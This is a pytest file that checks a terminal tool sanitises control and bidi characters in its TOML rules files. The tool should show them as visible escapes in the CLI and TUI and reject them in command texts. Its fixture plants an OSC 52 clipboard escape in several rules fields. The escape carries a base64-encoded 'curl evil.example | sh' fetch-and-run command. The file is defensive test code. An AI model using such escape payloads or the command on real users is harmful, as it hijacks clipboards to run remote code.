"""Rules text never writes an escape sequence to a terminal (issue 19, MED 5).

A hardware label, model name, `pick_when`, note or placeholder label holding OSC 52 reached
the clipboard through the TUI (Textual strips only BEL) and the CLI. Rules texts are now
sanitised on load: control and bidi characters are kept as visible escapes (`\\x1b`), with
a notice naming file:line:field; command texts holding one are rejected (`dsv4 check`).
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT
from dsv4_tui import cli
from dsv4_tui.host.rules_files import load_rules

OSC52 = "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gg\x07"
EVIL = OSC52 + "\x9b\u202e"
TOML_EVIL = "\\u001b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gg\\u0007\\u009b\\u202e"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")

EDITS = {  # (file, text) -> text: the page's facts are in cookbook.toml, the hand-kept ones in model.toml
    ("cookbook.toml", 'name = "DeepSeek-V4"'): f'name = "DeepSeek-V4{TOML_EVIL}"',
    ("model.toml", 'label = "H200"'): f'label = "H200{TOML_EVIL}"',
    ("model.toml", 'pick_when = "good speed with several'): f'pick_when = "{TOML_EVIL}good speed with several',
    ("model.toml", 'text = "Speculative decoding ({label}) is on —'): (
        f'text = "{TOML_EVIL}Speculative decoding ({{label}}) is on —'
    ),
    ("cookbook.toml", 'label = "Bind host"'): f'label = "Bind host{TOML_EVIL}"',
    ("model.toml", 'text = "H100 has no FP8 path'): f'text = "{TOML_EVIL}H100 has no FP8 path',
}


@pytest.fixture
def evil_rules(tmp_path) -> Path:
    folder = tmp_path / "rules"
    shutil.copytree(ROOT / "rules", folder)
    for (name, old), new in EDITS.items():
        path = folder / name
        text = path.read_text(encoding="utf-8")
        assert old in text, old
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return folder


def test_rules_texts_are_escaped_on_load_with_a_notice(evil_rules):
    rules = load_rules(evil_rules, cache=False)
    shown = "\\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gg\\x07\\x9b\\u202e"
    assert rules.model.model.name == "DeepSeek-V4" + shown
    assert rules.hardware("h200").label == "H200" + shown
    assert rules.model.placeholders["HOST_IP"].label == "Bind host" + shown
    notices = [n for n in rules.notices if "control characters shown as escapes" in n]
    model = (evil_rules / "model.toml").read_text(encoding="utf-8").splitlines()
    line = next(i for i, text in enumerate(model, 1) if text.startswith('label = "H200'))
    assert any(n.startswith(f"{evil_rules / 'model.toml'}:{line}: hardware[1].label:") for n in notices), notices
    assert len(notices) == len(EDITS)
    again = load_rules(evil_rules)  # through the cache: the same escaped texts
    assert load_rules(evil_rules).hardware("h200").label == again.hardware("h200").label == "H200" + shown


def _cli(*argv: str) -> bytes:
    proc = subprocess.run(
        [sys.executable, "-m", "dsv4_tui", *argv], capture_output=True, timeout=120, stdin=subprocess.DEVNULL
    )
    return proc.stdout + proc.stderr


H200 = ["--hw", "h200", "--variant", "flash", "--quant", "fp8", "--strategy", "balanced", "--nodes", "single"]


@pytest.mark.parametrize(
    "argv",
    [
        ["check"],
        ["list"],
        ["print", *H200],
        ["print", *H200, "--docker"],
        ["print", *H200, "--override", "speculative=mtp-314"],  # the MTP note on stderr
        ["doctor", *H200],  # the selection's labels
    ],
    ids=["check", "list", "print", "print-docker", "print-note", "doctor"],
)
def test_the_cli_prints_no_raw_escape_from_rules_text(evil_rules, argv):
    out = _cli("--rules", str(evil_rules), *argv).decode("utf-8")
    assert RAW.findall(out) == []


def test_a_placeholder_default_with_an_escape_is_rejected_and_the_error_is_escaped(evil_rules, capsys):
    page = evil_rules / "cookbook.toml"
    page.write_text(
        page.read_text(encoding="utf-8").replace('default = "0.0.0.0"', f'default = "0.0.0.0{TOML_EVIL}"'), "utf-8"
    )
    assert cli.main(["--rules", str(evil_rules), "check"]) != 0
    err = capsys.readouterr().err
    assert "placeholders.HOST_IP.default" in err and "\\x1b]52" in err
    assert RAW.findall(err) == []


async def test_the_tui_renders_rules_text_escaped(evil_rules):
    from textual.widget import Widget

    from dsv4_tui.app import DSV4App
    from dsv4_tui.core.selection import Selection

    rules = load_rules(evil_rules, cache=False)
    app = DSV4App(rules, detect=False)
    async with app.run_test(size=(160, 50)) as pilot:
        app.selection = Selection("h100", "flash", "fp4", "balanced", "single")  # H100's availability note
        await pilot.pause()
        app.selection = Selection(*H200[1::2])
        await pilot.pause()
        rendered = [
            widget.render_line(y).text for widget in app.screen.query(Widget) for y in range(widget.size.height)
        ]
        text = "\n".join(rendered)
        assert "H200\\x1b]52" in text  # the label is there, escaped
        assert RAW.findall(text) == []
